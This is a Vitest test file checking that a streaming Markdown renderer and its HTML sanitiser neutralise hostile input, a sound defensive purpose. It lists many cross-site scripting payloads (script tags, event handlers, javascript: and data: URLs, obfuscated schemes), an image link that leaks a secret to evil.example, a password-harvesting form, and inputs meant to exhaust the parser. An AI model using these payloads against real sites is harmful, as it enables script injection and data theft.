// @vitest-environment jsdom
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { safeHtml } from "../../src/element/markdown/safe-html.ts";
import { StreamingMarkdown } from "../../src/element/markdown/streaming-markdown.ts";
import { cpuMs } from "../cpu-time.ts";

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>*{display:none}</style>",
  "<form action=//evil><input name=password></form>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](/logout)",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/p.png?secret)",
  '![x](https://a.b/"onerror="alert(1))',
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  '[x](https://a.b "\\" onmouseover=\\"alert(1)")',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js" onmouseover="alert(1)\ncode',
  "```\n<script>alert(1)</script>",
  "|<img src=x onerror=alert(1)>|\n|-|\n|<script>|",
  "# <script>alert(1)</script>",
  "`<script>`",
  "\u0000<scr\u0000ipt>",
  "a[^1]\n\n[^1]: [x](javascript:alert(1)) <img src=x onerror=alert(1)>",
  '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
  "[^<img/src=x/onerror=alert(1)>]\n\n[^<img/src=x/onerror=alert(1)>]: x",
  "a[^__proto__]\n\n[^__proto__]: x\n\n[^constructor]: y",
  "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![x](data:image/svg+xml;base64,PHN2Zy8+)",
  '![" onerror="alert(1)](https://a.b/c.png)',
  "[![x](javascript:alert(1))](javascript:alert(1))",
  "[x](data:image/png;base64,AAAA)",
  "<data:image/png;base64,AAAA>",
  '> [!NOTE" onclick="alert(1)]\n> x',
  "> [!NOTE]\n> <script>alert(1)</script>",
  "- [x] <img src=x onerror=alert(1)>",
  "|a|\n|-|\n|<br onclick=alert(1)><br/onclick=alert(1)>|",
];
const ELEMENTS =
  "div span button pre code p br hr h3 h4 h5 h6 blockquote ul ol li em strong s sup a input img table thead tbody tr th td";
const ATTRIBUTES =
  "class type aria-label tabindex role href title target rel start align dir disabled checked " +
  "src alt loading decoding referrerpolicy " +
  "data-depth data-task data-alert data-footnote data-definition data-image";

/** All that is not the plainest of markup in what `pieces` are rendered as. */
async function dangers(...pieces: string[]): Promise<string[]> {
  const element = document.createElement("div");
  const markdown = new StreamingMarkdown(element);
  const found: string[] = [];
  for (const piece of pieces) {
    markdown.append(piece);
    found.push(...dangersIn(element));
  }
  await markdown.end();
  return [...found, ...dangersIn(element)];
}

function dangersIn(element: HTMLElement): string[] {
  const found: string[] = [];
  for (const node of element.querySelectorAll("*")) {
    if (!ELEMENTS.split(" ").includes(node.localName)) found.push(node.outerHTML);
    for (const { name, value } of node.attributes) {
      if (!ATTRIBUTES.split(" ").includes(name)) found.push(`${name}="${value}"`);
      if (name === "href" && !/^(https?|mailto):/.test(value)) found.push(value);
      if (name === "src" && !value.startsWith("data:image/png;base64,")) found.push(value);
    }
  }
  return found;
}

describe("hostile Markdown", () => {
  it.each(HOSTILE)("is inert: %s", async (text) => {
    expect(await dangers(text)).toEqual([]);
    expect(await dangers(...text)).toEqual([]);
  });

  it("is inert in any mixture, however it is cut", async () => {
    const mixture = fc.array(fc.oneof(fc.constantFrom(...HOSTILE, "\n", "```", "> ", "- ", "    "), fc.string()), {
      maxLength: 12,
    });
    await fc.assert(
      fc.asyncProperty(mixture, async (pieces) => {
        expect(await dangers(...pieces)).toEqual([]);
      }),
      { numRuns: 60 },
    );
  });

  it("shows the markup that it does not obey", () => {
    const element = document.createElement("div");
    new StreamingMarkdown(element).append("<script>alert(1)</script>");
    expect(element.textContent).toContain("<script>alert(1)</script>");
  });

  it.each([
    ["quotes", "> ".repeat(10_000)],
    ["lists", "- ".repeat(10_000)],
    ["brackets", "[".repeat(10_000)],
    ["emphasis", "*a ".repeat(8_000)],
    ["images", "![](".repeat(6_000)],
    ["backticks", "`a ``".repeat(6_000)],
    ["fences", "```\n".repeat(601)],
    ["cells", `${"|a".repeat(2_000)}\n${"|-".repeat(2_000)}\n`],
    ["rows", `|a|b|\n|-|-|\n${"|1<br>2|\n".repeat(500)}`],
    ["tasks", "- [ ] ".repeat(5_000)],
    ["items with tasks", "- [x] a\n".repeat(800)],
    ["alerts", "> [!NOTE]\n".repeat(2_000)],
    ["alerts in each other", "> [!NOTE]\n> ".repeat(2_000)],
    ["footnotes", "[^a]: ".repeat(2_000)],
    ["footnotes that are never defined", "[^a] ".repeat(600)],
    ["pictures", "![a](https://a.b/c.png) ".repeat(400)],
    ["links that go on", "[a](https://a.b/".repeat(800)],
    ["emphasis of CJK characters", "**「a".repeat(1_500)],
    ["strikethrough", "~~a ".repeat(4_000)],
  ])("nested or repeated without end, it costs little: %s", async (_, text) => {
    const begun = cpuMs();
    expect(await dangers(`${text}x`)).toEqual([]);
    expect(cpuMs() - begun).toBeLessThan(4_000);
  });

  it("would be stopped by the second wall as well", () => {
    const fragment = safeHtml(
      '<p onclick="x()" style="color:red" id="a" class="b">a</p><script>x()</script><img src=x onerror=x()>' +
        '<a href="javascript:x()">b</a><a href="https://a.b">c</a><form><input></form>',
    );
    const element = document.createElement("div");
    element.append(fragment);
    expect(element.innerHTML).toBe('<p>a</p><a>b</a><a href="https://a.b">c</a>');
  });
});
